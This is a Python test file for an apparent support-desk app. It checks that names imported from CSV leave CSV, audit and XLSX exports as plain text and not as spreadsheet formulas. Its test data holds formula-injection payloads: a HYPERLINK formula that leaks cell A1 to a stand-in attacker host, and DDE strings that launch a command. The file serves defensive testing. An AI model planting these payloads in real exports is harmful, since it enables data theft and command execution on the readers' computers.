"""Issue 13, point 8: a name like ``=HYPERLINK(...)`` brought in by a CSV import must leave
every export as text, never as a formula a spreadsheet runs."""

from __future__ import annotations

import csv
import html
import re
import zipfile
from pathlib import Path

from sqlalchemy import select

from recovery_desk.core.paths import resources_dir
from recovery_desk.services.exports.cells import csv_cell
from recovery_desk.services.exports.export import export
from recovery_desk.services.imports.csv_import import import_csv
from recovery_desk.services.trust.audit import export_audit
from recovery_desk.services.workspace import Workspace
from recovery_desk.storage.models import Case
from tests.services.trust_helpers import sign_in

MAPPING = resources_dir() / "import" / "example-mapping.toml"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the invoice")'
HEADER = ("Ticket ID,Created,Closed,Customer,E-mail,Phone,Client no.,Channel,Category,Priority,"
          "Description,Wanted outcome,Assignee,State,CSAT,NPS,Resolution")
ATTACKS = (LINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1")


def _import_hostile_agents(workspace: Workspace, tmp_path: Path) -> None:
    sign_in(workspace, "Sam Supervisor", "supervisor")  # imports are for supervisors
    rows = [HEADER]
    for number, agent in enumerate(ATTACKS, start=1):
        quoted = '"' + agent.replace('"', '""') + '"'
        rows.append(f"HX-{number},02/03/2026 10:15,,{quoted},x{number}@example.com,,,Phone,"
                    f"Delivery,P3,Late again.,,{quoted},New,,,")
    source = tmp_path / "hostile.csv"
    source.write_text("\n".join(rows) + "\n", encoding="utf-8")
    report = import_csv(workspace, source, MAPPING, dry_run=False)
    assert report.cases == len(ATTACKS), report.lines()


def test_csv_exports_mark_formulas_as_text(workspace: Workspace, tmp_path: Path) -> None:
    _import_hostile_agents(workspace, tmp_path)
    out = tmp_path / "cases.csv"
    export(workspace.engine, out, "csv")
    with out.open(encoding="utf-8-sig", newline="") as handle:
        agents = sorted(row["agent"] for row in csv.DictReader(handle))
    with workspace.engine.connect() as conn:
        stored = sorted(conn.execute(select(Case.agent)).scalars())
    assert LINK in stored   # the import kept the name as it came
    assert agents == sorted("'" + agent for agent in stored)
    # what a spreadsheet program would take for a formula: a cell starting with = + - @
    for agent in agents:
        assert agent[:1] not in "=+-@\t\r"


def test_audit_csv_marks_formulas_as_text(workspace: Workspace, tmp_path: Path) -> None:
    _import_hostile_agents(workspace, tmp_path)
    sign_in(workspace, "=cmd|' /C calc'!A0", "admin")
    out = tmp_path / "audit.csv"
    export_audit(workspace, out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        actors = {row["actor"] for row in csv.DictReader(handle)}
    assert actors and all(a[:1] not in "=+-@\t\r" for a in actors)


def test_xlsx_writes_strings_as_strings_never_formulas(workspace: Workspace,
                                                       tmp_path: Path) -> None:
    _import_hostile_agents(workspace, tmp_path)
    out = tmp_path / "cases.xlsx"
    export(workspace.engine, out, "xlsx")
    with zipfile.ZipFile(out) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        shared = book.read("xl/sharedStrings.xml").decode() \
            if "xl/sharedStrings.xml" in book.namelist() else ""
    assert "<f>" not in sheet and "<f " not in sheet      # no formula cell at all
    text = sheet + shared
    cells = re.findall(r'<c r="\w+" t="(\w+)"><is><t[^>]*>([^<]*)</t>', text) + [
        ("s", value) for value in re.findall(r"<t[^>]*>([^<]*)</t>", shared)]
    written = {html.unescape(value) for _kind, value in cells}
    assert LINK in written   # a string cell holding the exact name, not marked, not a formula


def test_plain_values_are_left_alone() -> None:
    assert csv_cell("Anna Kovács") == "Anna Kovács"
    assert csv_cell(-5) == -5 and csv_cell(None) is None and csv_cell("") == ""
    assert csv_cell("=1+1") == "'=1+1"
